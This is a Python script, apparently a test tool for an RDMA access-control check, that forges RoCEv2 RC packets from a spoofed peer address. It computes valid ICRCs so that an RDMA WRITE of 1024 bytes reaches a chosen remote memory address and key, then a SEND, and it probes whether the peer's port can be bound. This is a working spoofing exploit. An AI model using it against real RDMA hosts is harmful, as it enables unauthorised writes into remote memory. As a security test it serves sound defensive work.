#!/usr/bin/env python3
# SPDX-License-Identifier: MIT
"""Forge RC requests from a peer's address, as any local user could (acl.sh).

  forge.py SRC DST DPORT QPN PSN RKEY VA

From an ordinary UDP socket bound to SRC (the connected peer's address) and a
port of the kernel's choice, sends to DST:DPORT an RC RDMA WRITE Only of 1024
bytes 'X' to VA with RKEY at PSN, then an RC SEND Only of 64 bytes at the same
PSN, each to QP QPN with a valid ICRC (IPv4 ID 0 and DF, as a socket with
IP_PMTUDISC_DO sends them). Then it tries to bind SRC:DPORT, the peer's own
RoCEv2 port, and says whether it could ("bound" or "in use"). Prints the
source port it sent from.
"""
import errno
import socket
import struct
import sys
import zlib

IP_MTU_DISCOVER = 10
IP_PMTUDISC_DO = 2


def icrc(src, dst, sport, dport, ib):
    """ICRC over the masked IPv4 + UDP headers and the IB packet (PROTOCOL.md 6)."""
    total = 20 + 8 + len(ib) + 4
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0xFF, total, 0, 0x4000, 0xFF, 17, 0xFFFF,
                     socket.inet_aton(src), socket.inet_aton(dst))
    udp = struct.pack("!HHHH", sport, dport, 8 + len(ib) + 4, 0xFFFF)
    b = bytearray(ib)
    b[4] = 0xFF  # BTH byte 4 (FECN, BECN, resv6)
    return zlib.crc32(b"\xff" * 8 + ip + udp + bytes(b)) & 0xFFFFFFFF


def bth(opcode, qpn, psn):
    return struct.pack("!BBHII", opcode, 0, 0xFFFF, qpn & 0xFFFFFF, 0x80000000 | (psn & 0xFFFFFF))


def main():
    src, dst, dport, qpn, psn, rkey, va = sys.argv[1:8]
    dport, qpn, psn, rkey, va = (int(x, 0) for x in (dport, qpn, psn, rkey, va))
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.setsockopt(socket.IPPROTO_IP, IP_MTU_DISCOVER, IP_PMTUDISC_DO)
    s.bind((src, 0))
    sport = s.getsockname()[1]
    write = bth(0x0A, qpn, psn) + struct.pack("!QII", va, rkey, 1024) + b"X" * 1024
    send = bth(0x04, qpn, psn) + b"Y" * 64
    for ib in (write, send):
        s.sendto(ib + struct.pack("<I", icrc(src, dst, sport, dport, ib)), (dst, dport))
    print("sent from port %d" % sport)
    t = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    try:
        t.bind((src, dport))
        print("bound")
    except OSError as e:
        print("in use" if e.errno == errno.EADDRINUSE else "bind: %s" % e)
    return 0


if __name__ == "__main__":
    sys.exit(main())
